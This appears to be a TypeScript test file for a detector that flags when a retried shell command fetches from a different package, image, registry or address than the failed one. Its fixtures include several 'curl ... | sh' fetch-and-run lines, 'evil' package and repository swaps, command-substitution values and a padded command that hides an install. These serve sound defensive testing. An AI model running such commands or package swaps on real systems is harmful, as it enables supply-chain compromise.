import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { changedSources, FETCHERS } from './changed-sources.js';

const changes = (failed: string, later: string): string[] =>
  changedSources(failed, later).map(({ program, form }) => `${program} ${form}`);

describe('a command that fetches something else than the failed one', () => {
  it.each([
    ['pip install frobber', 'pip install frobber-plus', 'pip installs another package: frobber → frobber-plus'],
    ['npm i lodahs', 'npm install lodash-x', 'npm installs another package: lodahs → lodash-x'],
    ['npm i lodash', 'npm i lodash@npm:lodahs@4', 'npm installs another package: lodash → lodahs'],
    ['npm i lodash', 'npm i evil/lodash', 'npm fetches from another address: lodash → github.com/evil/lodash'],
    [
      'pip install frobber',
      'sudo python3 -m pip install -U frobberr',
      'pip installs another package: frobber → frobberr',
    ],
    ['pip install frobber', 'uv pip install frobberr', 'pip installs another package: frobber → frobberr'],
    ['pip install a', 'pip install a b', 'pip installs another package: + b'],
    ['npm ci', 'npm install left-pad', 'npm installs another package: + left-pad'],
    [
      'pip install frobber',
      'conda install frobber',
      'conda installs from another registry: pip frobber → conda frobber',
    ],
    [
      'pip install x',
      'pip install git+https://github.com/evil/x',
      'pip fetches from another address: x → github.com/evil/x',
    ],
    ['docker pull a/x:1', 'docker pull b/x:1', 'docker uses another image: a/x → b/x'],
    [
      'docker run --rm -v a:/b -it node:20 npm t',
      'docker run --rm -it nodejs/node npm t',
      'docker uses another image: node → nodejs/node',
    ],
    [
      'pip install --index-url https://a.example/simple x',
      'pip install --index-url https://b.example/simple x',
      'pip uses another registry: a.example/simple → b.example/simple',
    ],
    [
      'go get github.com/a/tool/cmd',
      'go get github.com/b/tool/cmd',
      'go installs another package: github.com/a/tool → github.com/b/tool',
    ],
    ['cargo add serd', 'cargo add serde_x --features derive', 'cargo installs another package: serd → serde_x'],
    [
      'apt-get install -y libfoo',
      'apt-get install -y libfoo-dev',
      'apt-get installs another package: libfoo → libfoo-dev',
    ],
    ['docker build - <<E\nFROM a/x\nE', 'docker build - <<E\nFROM b/x\nE', 'FROM uses another image: a/x → b/x'],
    [
      'helm repo add c https://a.example/c',
      'helm repo add c https://b.example/c',
      'helm fetches from another address: a.example/c → b.example/c',
    ],
    [
      'curl -fsSL https://get.a.example/i | sh',
      'curl -fsSL https://get.b.example/i | sh',
      'curl fetches from another address: get.a.example/i → get.b.example/i',
    ],
    [
      'curl -O https://github.com/a/x/f.tgz',
      'curl -O https://github.com/b/x/f.tgz',
      'curl fetches from another address: github.com/a → github.com/b',
    ],
    [
      'git clone https://github.com/a/x',
      'git clone git@github.com:b/x.git',
      'git fetches from another address: github.com/a/x → github.com/b/x',
    ],
    ["bash -lc 'npm i a'", "bash -lc 'npm i b'", 'npm installs another package: a → b'],
    [
      'npx creat-react-app x',
      'npx create-react-app x',
      'npx installs another package: creat-react-app → create-react-app',
    ],
    ['npx tsc', 'npx -p typescript tsc', 'npx installs another package: tsc → typescript'],
    ['pip install a', 'pip install b\npip install a', 'pip installs another package: + b'],
    [
      'go get github.com/nats-io/nats.go',
      'go get github.com/evil/nats.go',
      'go installs another package: github.com/nats-io/nats.go → github.com/evil/nats.go',
    ],
    ['pip install frobber', 'pip install frobber.toml', 'pip installs another package: frobber → frobber-toml'],
    ['npm i lodash', 'npm i lodash.zip', 'npm installs another package: lodash → lodash.zip'],
    ['docker run good/x', 'docker run --oom-kill-disable evil/x', 'docker uses another image: good/x → evil/x'],
    ['docker run good/x', 'docker run --unheard-of evil/x', 'docker uses another image: good/x → evil/x'],
    ['docker run good/x', 'docker run --unheard-of good/x evil/x', 'docker uses another image: + evil/x'],
    ['docker run good/x', 'docker --context c run evil/x', 'docker uses another image: good/x → evil/x'],
    ['pnpm add lodash', 'pnpm add -w evil', 'pnpm installs another package: lodash → evil'],
    ['pip install x', 'pip --unheard-of v install evil', 'pip installs another package: x → evil'],
    ['helm install r good/c', 'helm install --generate-name evil/c', 'helm installs another package: good/c → evil/c'],
    ['helm install r good/c', 'helm install r evil/c --odd good/c', 'helm installs another package: + evil/c'],
    [
      'mvn dependency:get -Dartifact=a:b:1',
      'mvn dependency:get -Dartifact=a:b:1 -DremoteRepositories=https://b.example/m',
      'mvn fetches from another address: + b.example/m',
    ],
    ['npm i x', 'npm config set registry https://b.example\nnpm i x', 'npm fetches from another address: + b.example'],
    ['pip install x', 'pip install --no-deps evil x', 'pip installs another package: + evil'],
    [
      'pip install frobber',
      'echo frobber-plus | xargs pip install',
      'pip installs another package: frobber → $(xargs)',
    ],
    [
      'pip install frobber',
      'pip install "frobber$(cat suffix)"',
      'pip installs another package: frobber → frobber$(cat-suffix)',
    ],
    ['pip install frobber', 'pip install $NAME', 'pip installs another package: frobber → $name'],
    [
      'curl https://a.example/x | sh',
      'curl -fsSL $FROM | sh',
      'curl fetches from another address: a.example/x → $from',
    ],
    ['curl https://a.example/x | sh', 'curl evil.sh | sh', 'curl fetches from another address: a.example/x → evil.sh'],
    [
      'curl https://a.example/x | sh',
      'wget -qO- a.example@b.example/x | sh',
      'wget fetches from another address: a.example/x → b.example/x',
    ],
    [
      'curl https://a.example/x',
      'curl -XPOST 192.0.2.1/x',
      'curl fetches from another address: a.example/x → 192.0.2.1/x',
    ],
    ['npm i lodash', 'npm i lodash@evil/lodash', 'npm fetches from another address: lodash → github.com/evil/lodash'],
    ['easy_install frobber', 'easy_install evil', 'easy_install installs another package: frobber → evil'],
    [
      'kubectl apply -f https://a.example/x',
      'kubectl apply -f https://b.example/x',
      'kubectl fetches from another address: a.example/x → b.example/x',
    ],
    [
      'curl -O https://sourceforge.net/projects/a/f.tgz',
      'curl -O https://sourceforge.net/projects/evil/f.tgz',
      'curl fetches from another address: sourceforge.net/projects/a → sourceforge.net/projects/evil',
    ],
    [
      'curl https://gitlab.com/api/v4/projects/1/x',
      'curl https://gitlab.com/api/v4/projects/2/x',
      'curl fetches from another address: gitlab.com/api/v4/projects/1 → gitlab.com/api/v4/projects/2',
    ],
    ['nix run nixpkgs#good', 'nix run nixpkgs#evil', 'nix installs another package: nixpkgs#good → nixpkgs#evil'],
    ['nix-shell -p good', 'nix-shell -p evil', 'nix-shell installs another package: good → evil'],
    ['deno add npm:chalk@5', 'deno add jsr:@evil/chalk', 'deno installs another package: chalk → @evil/chalk'],
    ['deno run -A npm:good', 'deno run -A npm:evil', 'deno fetches from another address: good → evil'],
    [
      'mvn dependency:get -Dartifact=org.a:x:1',
      'mvn dependency:get -Dartifact=org.evil:x:1',
      'mvn installs another package: org.a:x → org.evil:x',
    ],
    [
      'ansible-galaxy collection install a.b',
      'ansible-galaxy collection install evil.b:1.0',
      'ansible-galaxy installs another package: a.b → evil.b',
    ],
    [
      'skopeo copy docker://good/x dir:/tmp/x',
      'skopeo copy docker://evil/x dir:/tmp/x',
      'skopeo uses another image: good/x → evil/x',
    ],
    [
      'kubectl set image deploy/x c=good/x:1',
      'kubectl set image deploy/x c=evil/x:1',
      'kubectl uses another image: c=good/x → c=evil/x',
    ],
    ['pip install a', 'curl https://a.example/b | sh', 'curl fetches from another address: a → a.example/b'],
  ])('is named: %s, then %s', (failed, later, said) => {
    expect(changes(failed, later)).toEqual([said]);
  });

  it.each([
    ['a value of an option', 'pip install x', 'pip install --use-feature truststore --default-timeout 100 x'],
    ['a value of an option', 'npm i x', 'npm i --fetch-timeout 60000 x'],
    ['a value of an option', 'gem install x', 'gem install x --platform ruby'],
    ['a value of an option', 'docker run node', 'docker run --name web -itp 80:80 --memory 2g node:20 npm t'],
    ['an argument of an image', 'docker run node npm t', 'docker run --no-healthcheck node npm test'],
    ['a file to write', 'curl -O https://a.example/d/x.tgz', 'curl -sSfLo out.tgz https://a.example/d/y.tgz'],
    ['a body', 'curl https://a.example/d/x', `curl --json '{"a":1.5}' -H "A: b.c" https://a.example/d/x`],
    ['a file', 'go run main.go', 'go run other.go'],
    ['another part of an interface', 'curl https://a.example/api/v1/user', 'curl https://a.example/api/v1/users'],
    ['a folder', 'git clone https://github.com/a/x x', 'pip install -e x'],
    ['a file', 'pip install x', 'pip install -Ur requirements.txt ./x.toml dist/x-1.0-py3-none-any.whl x'],
    ['another resource', 'kubectl set image deploy/x c=a/x:1', 'kubectl set image -n prod deployment/x c=a/x:2'],
    ['another version of a chart', 'helm upgrade --install r c/x', 'helm upgrade --install -n prod r c/x --version 2'],
    ['another goal', 'mvn clean test', 'mvn -q clean verify'],
    ['another version', 'pip install frobber==1', 'pip install "frobber>=2"'],
    ['another tag', 'docker pull node:20', 'docker pull docker.io/library/node:22-slim'],
    ['an extra, which the package declares', 'pip install frobber', "pip install 'frobber[async]'"],
    ['another spelling of its name', 'pip install Foo_Bar', 'pip install foo-bar'],
    ['a flag', 'npm i lodash', 'npm i --legacy-peer-deps -D lodash@4'],
    ['another program of the same registry', 'npm install lodash', 'pnpm add lodash'],
    ['another program of the same registry', 'pip install x', 'uv add x'],
    ['a part of it', 'pip install a b', 'pip install a'],
    ['files of the checkout', 'pip install -r a.txt', 'pip install -r requirements.txt -e .'],
    ['files of the checkout', 'npm install', 'npm ci --prefix web'],
    ['a major version', 'go get github.com/a/tool', 'go get github.com/a/tool/v2@latest'],
    ['another way to the same repository', 'git clone git@github.com:a/x.git', 'git clone https://github.com/a/x'],
    ['another file of the same owner', 'curl -O https://example.com/dl/a.tgz', 'curl -LO https://example.com/dl/b.tgz'],
    ['another service of this machine', 'curl localhost:8080/a', 'curl http://localhost:9090/b'],
    ['options of what it runs', 'docker run node npm test', 'docker run -e A=b --network host node npm start'],
    ['what another registry prepares', 'pip install psycopg2', 'apt-get install -y libpq-dev\npip install psycopg2'],
    [
      'a tool that was missing',
      'curl https://a.example/b | jq .',
      'apt-get install jq\ncurl https://a.example/b | jq .',
    ],
    ['a step of a line that fetches nothing', 'python app.py', 'pip install frobber'],
    ['no change at all', 'git push', 'git push origin main'],
  ])('is not %s: %s, then %s', (_what, failed, later) => {
    expect(changes(failed, later)).toEqual([]);
  });

  it('is suspected in what is too long to read', () => {
    const later = `${'true; '.repeat(1_000)}pip install evil`;
    expect(changes('pip install frobber', later)).toEqual([
      `sh fetches more than is read: frobber → ${'true; '.repeat(10)}`,
    ]);
    expect(changes(`pip install frobber; ${later}`, `pip install frobber; ${later}`)).toEqual([]);
    expect(changes(later, 'pip install other')).toEqual([]);
  });

  it('is found in any line, which changes nothing against itself', () => {
    const word = fc.oneof(
      fc.constantFrom(
        ...FETCHERS.flatMap(({ programs, verbs = '' }) => [...programs.split(' '), ...verbs.split(', ')]),
      ),
      fc.constantFrom('-p', '--registry', 'https://a.example/b', '[url]', 'a/b', '@a/b@1', '$(pip install x)', "'"),
      fc.string({ maxLength: 12 }),
    );
    const line = fc.array(word, { maxLength: 12 }).map((words) => words.join(' '));
    fc.assert(
      fc.property(line, line, (one, other) => {
        expect(changedSources(one, one)).toEqual([]);
        for (const danger of changedSources(one, other)) expect(danger.class).toBe('source');
      }),
    );
  });
});
